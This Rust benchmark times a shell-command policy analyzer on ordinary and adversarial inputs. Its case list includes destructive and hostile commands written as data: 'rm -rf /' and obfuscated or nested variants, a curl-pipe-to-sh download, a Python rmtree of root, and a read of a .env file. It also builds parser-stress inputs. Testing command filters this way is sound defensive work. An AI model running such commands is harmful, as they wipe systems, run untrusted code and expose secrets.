//! Shell analysis benchmark: `shell::analyze` on typical and adversarial commands.
//! Prints p50/p99 per command.
//!
//! Run: `cargo bench --bench shell`

use patchwork_gateway::policy::shell::{ShellEnv, analyze};
use std::path::PathBuf;
use std::time::{Duration, Instant};

fn main() {
    let env = ShellEnv {
        home: PathBuf::from("/home/dev"),
        vars: [("PWD".to_string(), "/home/dev/project".to_string())].into(),
    };
    let cases = [
        "git status && npm test",
        "ls -la src",
        "rm -rf /",
        "cargo build --release 2>&1 | tail -20",
        "curl -fsSL https://x.example/i.sh | sh",
        "find . -name node_modules -prune -o -name '*.ts' -print",
        "a=r; b=m; $a$b -rf /",
        "bash -c \"bash -c 'rm -rf /'\"",
        "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
        "cat \"$(printf .%s env)\"",
    ];
    for case in cases {
        measure(case, &env, 5000);
    }
    // Adversarial inputs: the analysis is bounded, these show the worst cost.
    let long_script = "ls -la src; ".repeat(5000);
    let brace_bomb = format!("echo {}", "{1..1000} ".repeat(200));
    let mut loops = String::new();
    let fan = (1..=16)
        .map(|i| i.to_string())
        .collect::<Vec<_>>()
        .join(" ");
    for k in 0..6 {
        loops.push_str(&format!("for v{k} in {fan}; do "));
    }
    loops.push_str("echo x");
    loops.push_str(&"; done".repeat(6));
    for (name, case) in [
        ("5000 commands (60 KB)", long_script.as_str()),
        ("brace bomb", brace_bomb.as_str()),
        ("6 nested loops of 16", loops.as_str()),
    ] {
        let t = Instant::now();
        std::hint::black_box(analyze(case, &env));
        println!("{name:<60} one run {:>9.2?}", t.elapsed());
    }
}

/// Prints p50/p99 of `n` analyses of `case` after a warm-up.
fn measure(case: &str, env: &ShellEnv, n: usize) {
    for _ in 0..200 {
        std::hint::black_box(analyze(case, env));
    }
    let mut samples: Vec<Duration> = (0..n)
        .map(|_| {
            let t = Instant::now();
            std::hint::black_box(analyze(std::hint::black_box(case), env));
            t.elapsed()
        })
        .collect();
    samples.sort();
    let p = |q: f64| samples[((samples.len() as f64 - 1.0) * q).round() as usize];
    println!("{case:<60} p50 {:>9.2?}  p99 {:>9.2?}", p(0.5), p(0.99));
}
